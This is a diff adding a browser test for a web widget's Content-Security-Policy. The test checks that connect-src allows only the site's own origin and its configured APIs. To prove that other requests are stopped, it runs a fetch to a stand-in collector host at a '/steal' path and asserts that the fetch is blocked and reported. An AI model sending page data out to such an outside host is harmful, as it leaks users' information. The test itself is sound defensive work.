@@ -81,6 +81,35 @@ test("sign-in, buying, the crypto checkout and the plans run with no violation",
   }
 });
 
+test("requests go only to this origin and the APIs config.json names", async () => {
+  const config = JSON.parse(await readFile(`${DIST}/config.json`, "utf8"));
+  const apis = [
+    config.livechat.accounts_url,
+    config.livechat.billing_api_url,
+    config.bidali.api_url,
+    config.plans.api_url,
+  ].map((url) => new URL(url).origin);
+  const connect = policy.split("; ").find((directive) => directive.startsWith("connect-src "));
+  assert.deepEqual(connect.split(" ").slice(1), ["'self'", ...new Set(apis)]);
+
+  const j = await journey(env.browser, env.server, "csp-connect");
+  const { page, step } = j;
+  const violations = await watchViolations(page);
+  try {
+    await step("a request to any other origin is blocked and reported", async () => {
+      await page.goto(j.url("/"));
+      await page.getByTestId("page-home").waitFor();
+      const outcome = await page.evaluate(() =>
+        fetch("https://collector.example.org/steal").then(() => "sent", () => "blocked"),
+      );
+      assert.equal(outcome, "blocked");
+      assert.deepEqual(await violations(), ["connect-src blocked https://collector.example.org/steal"]);
+    });
+  } finally {
+    await j.close();
+  }
+});
+
 test("a page on an origin not in host_origins cannot frame the widget", async () => {
   const j = await journey(env.browser, env.plain, "csp-framing");
   const { page, step } = j;
